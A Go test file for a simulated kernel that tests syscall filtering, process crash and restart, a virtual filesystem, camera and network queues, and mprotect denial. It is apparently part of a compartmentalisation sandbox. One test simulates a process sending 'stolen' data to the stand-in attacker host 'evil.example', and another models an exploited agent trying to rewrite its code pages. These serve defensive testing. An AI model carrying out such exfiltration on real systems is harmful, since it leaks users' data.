package kernel

import (
	"bytes"
	"errors"
	"testing"

	"freepart.dev/freepart/internal/mem"
)

func TestSpawnAndLookup(t *testing.T) {
	k := New()
	p := k.Spawn("host")
	if !p.Alive() || p.Name() != "host" {
		t.Fatalf("process = %v", p)
	}
	if got := k.Processes(); len(got) != 1 || got[0] != p {
		t.Fatalf("Processes() = %v, want the spawned process", got)
	}
}

func TestSpawnChargesTime(t *testing.T) {
	k := New()
	before := k.Clock.Now()
	k.Spawn("a")
	if k.Clock.Now() <= before {
		t.Fatal("Spawn should advance the virtual clock")
	}
}

func TestSyscallAccounting(t *testing.T) {
	k := New()
	p := k.Spawn("a")
	for i := 0; i < 3; i++ {
		if err := k.Syscall(p, SysRead, ""); err != nil {
			t.Fatal(err)
		}
	}
	if got := p.SyscallCounts()[SysRead]; got != 3 {
		t.Fatalf("read count = %d, want 3", got)
	}
}

// allSyscalls lists every syscall the simulated kernel implements.
var allSyscalls = []Sysno{
	SysOpenat, SysOpen, SysClose, SysRead, SysWrite, SysLseek, SysFstat,
	SysLstat, SysStat, SysAccess, SysUnlink, SysMkdir, SysGetcwd, SysBrk,
	SysMmap, SysMunmap, SysMprotect, SysShmOpen, SysIoctl, SysSelect,
	SysFcntl, SysDup, SysSocket, SysConnect, SysAccept, SysBind,
	SysListen, SysSend, SysSendto, SysRecvfrom, SysFutex, SysGetpid,
	SysGetuid, SysGetrandom, SysGettimeofday, SysClockGettime,
	SysEventfd2, SysUmask, SysUname, SysExit, SysFork, SysExecve,
	SysKill, SysSeccomp, SysPrctl,
}

func TestUninstalledFilterAllowsEverything(t *testing.T) {
	k := New()
	p := k.Spawn("a")
	for _, call := range allSyscalls {
		if err := k.Syscall(p, call, "anything"); err != nil {
			t.Fatalf("%s denied with no filter installed: %v", call, err)
		}
	}
}

func TestFilterDenyKillsProcess(t *testing.T) {
	k := New()
	p := k.Spawn("agent")
	if err := p.Filter().Allow(SysRead, SysOpenat); err != nil {
		t.Fatal(err)
	}
	p.Filter().Install()
	if err := k.Syscall(p, SysRead, ""); err != nil {
		t.Fatalf("allowed syscall failed: %v", err)
	}
	err := k.Syscall(p, SysSendto, "")
	if !errors.Is(err, ErrSyscallDenied) {
		t.Fatalf("want ErrSyscallDenied, got %v", err)
	}
	if p.State() != StateKilled {
		t.Fatalf("state = %v, want killed", p.State())
	}
	if len(p.Denials()) != 1 || p.Denials()[0].Call != SysSendto {
		t.Fatalf("denials = %v", p.Denials())
	}
}

func TestFilterLockedAfterInstall(t *testing.T) {
	k := New()
	p := k.Spawn("agent")
	_ = p.Filter().Allow(SysRead)
	p.Filter().Install()
	if err := p.Filter().Allow(SysSendto); err == nil {
		t.Fatal("Allow after Install must fail (PR_SET_NO_NEW_PRIVS)")
	}
	if err := p.Filter().RestrictFD(SysIoctl, "/dev/x"); err == nil {
		t.Fatal("RestrictFD after Install must fail")
	}
}

func TestFDScopedRestriction(t *testing.T) {
	k := New()
	cam := NewCamera("/dev/camera0")
	cam.Push([]byte{1, 2, 3})
	cam.Push([]byte{4, 5, 6})
	k.AddCamera(cam)
	p := k.Spawn("loading")
	_ = p.Filter().Allow(SysIoctl, SysSelect, SysRead)
	_ = p.Filter().RestrictFD(SysIoctl, "/dev/camera0")
	_ = p.Filter().RestrictFD(SysSelect, "/dev/camera0")
	p.Filter().Install()

	frame, ok, err := k.CameraRead(p, "/dev/camera0")
	if err != nil || !ok || !bytes.Equal(frame, []byte{1, 2, 3}) {
		t.Fatalf("CameraRead = %v %v %v", frame, ok, err)
	}
	// ioctl against a different device label must be denied.
	if err := k.Syscall(p, SysIoctl, "/dev/other"); !errors.Is(err, ErrSyscallDenied) {
		t.Fatalf("ioctl on foreign device: %v", err)
	}
}

func TestDeadProcessCannotSyscall(t *testing.T) {
	k := New()
	p := k.Spawn("a")
	k.Crash(p, "segv")
	if err := k.Syscall(p, SysRead, ""); !errors.Is(err, ErrProcessDead) {
		t.Fatalf("want ErrProcessDead, got %v", err)
	}
}

func TestCrashAndRestart(t *testing.T) {
	k := New()
	p := k.Spawn("agent")
	r, _ := p.Space().Alloc(64)
	_ = p.Space().Store(r.Base, []byte("secret payload"))
	oldSpace := p.Space()

	k.Crash(p, "exploited")
	if p.State() != StateCrashed || p.ExitReason() != "exploited" {
		t.Fatalf("state = %v (%s)", p.State(), p.ExitReason())
	}
	k.Restart(p)
	if !p.Alive() || p.Restarts() != 1 {
		t.Fatalf("after restart: %v restarts=%d", p.State(), p.Restarts())
	}
	if p.Space() == oldSpace {
		t.Fatal("restart must give a fresh address space")
	}
	// Old contents are gone (intentionally not restored, §6).
	if _, err := p.Space().Load(r.Base, 5); err == nil {
		t.Fatal("new space should not have the old allocation mapped")
	}
	// Filter is fresh and permissive until the supervisor re-applies it.
	if p.Filter().Installed() {
		t.Fatal("restarted process should have a fresh filter")
	}
}

func TestFileReadWrite(t *testing.T) {
	k := New()
	p := k.Spawn("a")
	k.FS.WriteFile("/in.png", []byte("imagedata"))
	data, err := k.FileRead(p, "/in.png")
	if err != nil || string(data) != "imagedata" {
		t.Fatalf("FileRead = %q, %v", data, err)
	}
	if err := k.FileWrite(p, "/out.csv", []byte("a,b\n")); err != nil {
		t.Fatal(err)
	}
	if err := k.FileAppend(p, "/out.csv", []byte("1,2\n")); err != nil {
		t.Fatal(err)
	}
	got, _ := k.FS.ReadFile("/out.csv")
	if string(got) != "a,b\n1,2\n" {
		t.Fatalf("file contents = %q", got)
	}
	c := p.SyscallCounts()
	if c[SysOpenat] != 3 || c[SysRead] != 1 || c[SysWrite] != 2 {
		t.Fatalf("syscall counts = %v", c)
	}
}

// TestReadFileSharesFileBytes: WriteFile keeps the caller's buffer and
// ReadFile hands out the file's own bytes, both capped at their length, so
// an append to the file never writes into the caller's array, and neither
// an append nor a rewrite changes bytes a reader already holds.
func TestReadFileSharesFileBytes(t *testing.T) {
	fs := NewFS()
	buf := make([]byte, 3, 8)
	copy(buf, "abc")
	fs.WriteFile("/f", buf)
	if w, _ := fs.ReadFile("/f"); &w[0] != &buf[0] || cap(w) != len(w) {
		t.Fatalf("WriteFile copied the caller's buffer or kept its spare capacity: cap %d", cap(w))
	}
	fs.AppendFile("/f", []byte("d"))
	if buf[:4][3] != 0 {
		t.Fatalf("AppendFile wrote %q into the caller's spare capacity", buf[:4][3])
	}
	a, _ := fs.ReadFile("/f")
	b, _ := fs.ReadFile("/f")
	if string(a) != "abcd" || cap(a) != len(a) || &a[0] != &b[0] {
		t.Fatalf("ReadFile = %q, cap %d, shared %v", a, cap(a), &a[0] == &b[0])
	}
	fs.AppendFile("/f", []byte("e"))
	fs.WriteFile("/g", a)
	fs.WriteFile("/f", []byte("xyz!"))
	if string(a) != "abcd" || string(buf) != "abc" {
		t.Fatalf("held bytes changed to %q and %q", a, buf)
	}
	if g, _ := fs.ReadFile("/g"); string(g) != "abcd" || &g[0] != &a[0] {
		t.Fatalf("WriteFile of a file's bytes: %q, shared %v", g, &g[0] == &a[0])
	}
}

func TestFileReadMissing(t *testing.T) {
	k := New()
	p := k.Spawn("a")
	if _, err := k.FileRead(p, "/missing"); err == nil {
		t.Fatal("read of missing file should fail")
	}
}

func TestFileReadDeniedByFilter(t *testing.T) {
	k := New()
	p := k.Spawn("a")
	k.FS.WriteFile("/f", []byte("x"))
	_ = p.Filter().Allow(SysRead) // openat missing
	p.Filter().Install()
	if _, err := k.FileRead(p, "/f"); !errors.Is(err, ErrSyscallDenied) {
		t.Fatalf("want denial, got %v", err)
	}
	if p.Alive() {
		t.Fatal("process should be killed")
	}
}

func TestNetworkSendRecordsExfiltration(t *testing.T) {
	k := New()
	p := k.Spawn("a")
	if err := k.NetConnect(p, "evil.example"); err != nil {
		t.Fatal(err)
	}
	if err := k.NetSend(p, "evil.example", []byte("stolen")); err != nil {
		t.Fatal(err)
	}
	msgs := k.Net.SentTo("evil.example")
	if len(msgs) != 1 || string(msgs[0].Data) != "stolen" || msgs[0].From != p.PID() {
		t.Fatalf("sent = %v", msgs)
	}
}

func TestNetworkRecv(t *testing.T) {
	k := New()
	p := k.Spawn("a")
	k.Net.QueueInbound("srv", []byte("reply"))
	data, ok, err := k.NetRecv(p, "srv")
	if err != nil || !ok || string(data) != "reply" {
		t.Fatalf("NetRecv = %q %v %v", data, ok, err)
	}
	_, ok, err = k.NetRecv(p, "srv")
	if err != nil || ok {
		t.Fatalf("drained queue should report !ok, got ok=%v err=%v", ok, err)
	}
}

func TestGUIShowAndOps(t *testing.T) {
	k := New()
	p := k.Spawn("viz")
	if err := k.GUIConnect(p); err != nil {
		t.Fatal(err)
	}
	if err := k.GUIShow(p, "result", 1024); err != nil {
		t.Fatal(err)
	}
	if err := k.GUIOp(p, "move", "result"); err != nil {
		t.Fatal(err)
	}
	if k.GUI.Windows() != 1 {
		t.Fatalf("windows = %d, want 1", k.GUI.Windows())
	}
	if err := k.GUIOp(p, "destroyAll", ""); err != nil {
		t.Fatal(err)
	}
	if k.GUI.Windows() != 0 {
		t.Fatal("destroyAll should close windows")
	}
	if got := k.GUI.Recent(); len(got) != 1 || got[0] != "result" {
		t.Fatalf("recent = %v", got)
	}
}

func TestMProtectThroughKernel(t *testing.T) {
	k := New()
	p := k.Spawn("host")
	r, _ := p.Space().Alloc(mem.PageSize)
	if err := k.MProtect(p, r, mem.PermRead); err != nil {
		t.Fatal(err)
	}
	if err := p.Space().Store(r.Base, []byte{1}); err == nil {
		t.Fatal("store after mprotect(READ) should fault")
	}
}

func TestMProtectDeniedBlocksCodeRewrite(t *testing.T) {
	// An exploited agent tries to re-enable write on its code pages; the
	// filter denies mprotect and the process dies (§3.2 code manipulation).
	k := New()
	p := k.Spawn("agent")
	r, _ := p.Space().Alloc(mem.PageSize)
	_, _ = p.Space().ProtectRegion(r, mem.PermRead|mem.PermExec)
	_ = p.Filter().Allow(SysRead, SysOpenat) // mprotect not allowed
	p.Filter().Install()
	err := k.MProtect(p, r, mem.PermRW)
	if !errors.Is(err, ErrSyscallDenied) {
		t.Fatalf("want denial, got %v", err)
	}
	if p.Alive() {
		t.Fatal("attacker process should be killed")
	}
	// Code pages stayed non-writable.
	if perm, _ := p.Space().PermAt(r.Base); perm.CanWrite() {
		t.Fatal("page became writable despite denial")
	}
}

func TestCameraExhaustion(t *testing.T) {
	k := New()
	cam := NewCamera("/dev/camera0")
	cam.Push([]byte{1})
	k.AddCamera(cam)
	p := k.Spawn("a")
	if err := k.CameraOpen(p, "/dev/camera0"); err != nil {
		t.Fatal(err)
	}
	_, ok, _ := k.CameraRead(p, "/dev/camera0")
	if !ok {
		t.Fatal("first read should produce a frame")
	}
	_, ok, err := k.CameraRead(p, "/dev/camera0")
	if err != nil || ok {
		t.Fatalf("exhausted camera: ok=%v err=%v", ok, err)
	}
	if cam.Pending() != 0 {
		t.Fatalf("camera pending = %d, want 0", cam.Pending())
	}
}

// TestConsumedQueueItemsReleased: once every frame and message has been
// read, the queues' backing arrays hold none of them, so a device does not
// keep what it handed out reachable.
func TestConsumedQueueItemsReleased(t *testing.T) {
	cam := NewCamera("/dev/camera0")
	for i := 0; i < 4; i++ {
		cam.Push([]byte{byte(i)})
	}
	frames := cam.frames[:cap(cam.frames)]
	for i := 0; i < 4; i++ {
		if f, ok := cam.Read(); !ok || f[0] != byte(i) {
			t.Fatalf("frame %d = %v, %v", i, f, ok)
		}
	}
	n := NewNetwork()
	for i := 0; i < 3; i++ {
		n.QueueInbound("srv", []byte{byte(i)})
	}
	msgs := n.inbound["srv"][:cap(n.inbound["srv"])]
	for i := 0; i < 3; i++ {
		if d, ok := n.Recv("srv"); !ok || d[0] != byte(i) {
			t.Fatalf("message %d = %v, %v", i, d, ok)
		}
	}
	for i, f := range frames {
		if f != nil {
			t.Errorf("camera queue slot %d still holds a read frame", i)
		}
	}
	for i, m := range msgs {
		if m != nil {
			t.Errorf("network queue slot %d still holds a received message", i)
		}
	}
}

func TestMissingCamera(t *testing.T) {
	k := New()
	p := k.Spawn("a")
	if _, _, err := k.CameraRead(p, "/dev/nope"); err == nil {
		t.Fatal("read of unregistered camera should fail")
	}
	if err := k.CameraOpen(p, "/dev/nope"); err == nil {
		t.Fatal("open of unregistered camera should fail")
	}
}

func TestFSBasics(t *testing.T) {
	fs := NewFS()
	fs.WriteFile("/a/x", []byte("1"))
	fs.WriteFile("/a/y", []byte("22"))
	fs.WriteFile("/b/z", []byte("333"))
	if !fs.Exists("/a/x") || fs.Exists("/a/nope") {
		t.Fatal("Exists wrong")
	}
	if fs.Size("/b/z") != 3 || fs.Size("/nope") != -1 {
		t.Fatal("Size wrong")
	}
	if got := fs.List("/a/"); len(got) != 2 || got[0] != "/a/x" {
		t.Fatalf("List = %v", got)
	}
}

func TestExitState(t *testing.T) {
	k := New()
	p := k.Spawn("a")
	k.Exit(p)
	if p.State() != StateExited {
		t.Fatalf("state = %v", p.State())
	}
	// Exit is terminal: a later crash shouldn't change it.
	k.Crash(p, "late")
	if p.State() != StateExited {
		t.Fatal("crash after exit should not change state")
	}
}

func TestStateStrings(t *testing.T) {
	for s, want := range map[ProcState]string{
		StateRunning: "running", StateCrashed: "crashed",
		StateKilled: "killed", StateExited: "exited",
	} {
		if s.String() != want {
			t.Errorf("%d.String() = %q", s, s.String())
		}
	}
}

func TestSeccompCheckCostCharged(t *testing.T) {
	k := New()
	p := k.Spawn("a")
	_ = p.Filter().Allow(SysRead)
	p.Filter().Install()
	t0 := k.Clock.Now()
	_ = k.Syscall(p, SysRead, "")
	withFilter := k.Clock.Now() - t0

	q := k.Spawn("b")
	t1 := k.Clock.Now()
	_ = k.Syscall(q, SysRead, "")
	without := k.Clock.Now() - t1
	if withFilter <= without {
		t.Fatalf("filtered syscall (%v) should cost more than unfiltered (%v)", withFilter, without)
	}
}
